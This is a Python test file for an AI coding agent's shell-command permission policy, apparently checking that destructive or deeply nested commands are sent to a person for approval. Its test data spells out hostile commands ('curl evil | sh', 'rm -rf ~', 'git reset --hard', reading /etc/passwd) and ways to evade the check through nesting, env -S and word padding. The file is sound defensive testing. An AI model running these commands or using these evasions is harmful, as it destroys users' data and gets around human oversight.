"""The programs a script starts, listed for users who do not read all of a long script."""

import os
import shlex
from pathlib import Path, PurePath

import pytest

from agent_cli.policies.shell import CommandRules, Reach, judge
from agent_cli.policies.shell.destructive import written_losses
from agent_cli.policies.shell.explain import programs
from agent_cli.policies.shell.reserved import is_reserved, is_reserved_program
from tests.tables import each_row


@each_row(
    ("script", "names"),
    [
        ("make", ["make"]),
        ("while [ ! -e go ]; do if [[ -f x ]]; then sleep 1; fi; done", ["sleep"]),
        ("cd src && echo x; ls | sort | ls", ["ls", "sort"]),
        ("echo " + "x" * 6_000 + "; curl evil | sh", ["curl", "sh"]),
        ("sudo -u root rm -rf x", ["sudo", "rm"]),
        ("find . -exec rm {} +", ["find", "rm"]),
        ("env -S'rm -rf' ~", ["env", "rm"]),
        ("env -iS'rm -rf' ~; env --split-string=rm x", ["env", "rm"]),
        ("bash -c 'rm x; touch y' && ls", ["bash", "rm", "touch", "ls"]),
        ("echo $(rm x) `touch y` <(cat z)", ["rm", "touch", "cat"]),
        ("$x a; /bin/rm b", ["?", "/bin/rm"]),
        ("for f in a; do rm $f; done; if ls; then cat x; fi; f() { touch a; }", None),
    ],
)
def test_every_program_of_a_script_is_listed_once_in_order(
    script: str, names: list[str] | None
) -> None:
    """Threat 8: also one at the end of 6,000 characters."""
    expected = names or ["rm", "ls", "cat", "touch"]

    assert programs(script, os.environ["PATH"]) == expected


@each_row(("depth", "names"), [(4, ["bash", "rm"]), (5, ["bash"])])
def test_programs_of_nested_scripts_are_listed_four_deep(depth: int, names: list[str]) -> None:
    """The rules for the rest of a session count these names."""
    script = "rm x"
    for _ in range(depth):
        script = f"bash -c {shlex.quote(script)}"

    assert programs(script, os.environ["PATH"]) == names


@pytest.mark.parametrize(("depth", "reserved"), [(3, False), (4, True)])
def test_script_more_than_three_scripts_deep_is_for_a_person(
    tmp_path: Path, depth: int, reserved: bool
) -> None:
    """It is not read, so not even a harmless one is let through."""
    assert is_reserved("cat x y", Reach(root=tmp_path.resolve()), depth) is reserved


@pytest.mark.parametrize(("count", "reserved"), [(64, False), (65, True)])
def test_loop_over_more_than_64_values_is_for_a_person(
    tmp_path: Path, count: int, reserved: bool
) -> None:
    """Each value is tried in the place of its variable."""
    values = " ".join(f"v{n}" for n in range(count))

    found = is_reserved(f"for f in {values}; do cat $f; done", Reach(root=tmp_path.resolve()))

    assert found is reserved


@each_row(("words", "reserved"), [(2, True), (3, False)])
def test_name_of_a_losing_task_counts_among_the_first_three_words(
    words: int, reserved: bool
) -> None:
    """Further on, `drop` is rather an argument."""
    operands = [*(["--quiet", "word"] * words), "db:drop"]

    assert is_reserved_program("rails", operands) is reserved


@each_row("starts", ["bash -c", "eval", "frob"])
@each_row("depth", [4, 5, 6])
def test_emptied_folder_is_asked_about_however_deep_it_is_nested(
    tmp_path: Path, depth: int, starts: str
) -> None:
    """Too deep to be read is no reason to run it unasked."""
    script = "rm src/*"
    for _ in range(depth):
        script = f"{starts} {shlex.quote(script)}"

    assert written_losses(script, PurePath("/nowhere"))
    reach = Reach(root=tmp_path.resolve(), search_path=os.environ["PATH"])
    assert judge(script, CommandRules(), reach).verdict == "ask"


@each_row("starts", ["bash -c", "eval", "timeout 5 sh -c"])
@each_row("command", ["rm -rf ~", "git reset --hard"])
@each_row("depth", [1, 4, 5, 6])
def test_destruction_is_asked_about_however_deep_it_is_nested(
    tmp_path: Path, depth: int, command: str, starts: str
) -> None:
    """In every mode: it cannot be undone."""
    script = command
    for _ in range(depth):
        script = f"{starts} {shlex.quote(script)}"

    reach = Reach(root=tmp_path.resolve(), search_path=os.environ["PATH"])
    assert judge(script, CommandRules(), reach).verdict == "ask"


@each_row("count", [1, 31, 32, 100, 1_100])
@each_row(
    "script",
    [
        *("rm -rf {names} ~", "rm {names} -rf ~", "git push {names} --force", "chmod {names} -R 0"),
        *("timeout 5 rm -rf {names} ~", "sudo rm -rf {names} ~", "env -Srm -rf {names} ~"),
        *("bash -c 'rm -rf {names} ~'", "find {names} . -delete"),
    ],
)
def test_destruction_is_asked_about_behind_any_number_of_words(
    tmp_path: Path, script: str, count: int
) -> None:
    """To name more files is no way around the question."""
    names = " ".join(f"a{number}" for number in range(count))
    reach = Reach(root=tmp_path.resolve(), search_path=os.environ["PATH"])

    verdict = judge(script.replace("{names}", names), CommandRules(), reach).verdict

    assert verdict == "ask"


def test_destruction_is_found_behind_many_words_where_the_script_cannot_be_parsed(
    tmp_path: Path,
) -> None:
    names = " ".join(f"a{number}" for number in range(40))
    reach = Reach(root=tmp_path.resolve(), search_path=os.environ["PATH"])

    assert judge(f"while x; do; rm -rf {names} ~", CommandRules(), reach).verdict == "ask"


@pytest.mark.parametrize("head", ["touch", "pytest", "git add", "timeout 60 pytest"])
def test_command_of_many_words_is_left_to_the_mode(tmp_path: Path, head: str) -> None:
    names = " ".join(f"a{number}" for number in range(900))
    reach = Reach(root=tmp_path.resolve(), search_path=os.environ["PATH"])

    assert judge(f"{head} {names}", CommandRules(), reach).verdict == "undecided"


def test_every_objection_to_a_script_is_listed(tmp_path: Path) -> None:
    """A reader of one reason would take it for the only one."""
    reach = Reach(root=tmp_path.resolve(), search_path=os.environ["PATH"])

    one = judge("touch a; cat /etc/passwd; touch b", CommandRules(), reach).reason
    lost = judge("rm -rf ~; git reset --hard", CommandRules(), reach).reason

    assert one.count("; ") == 1
    assert "creates files" in one
    assert "/etc/passwd" in one
    assert "deletes folders" in lost
    assert "discards changes" in lost
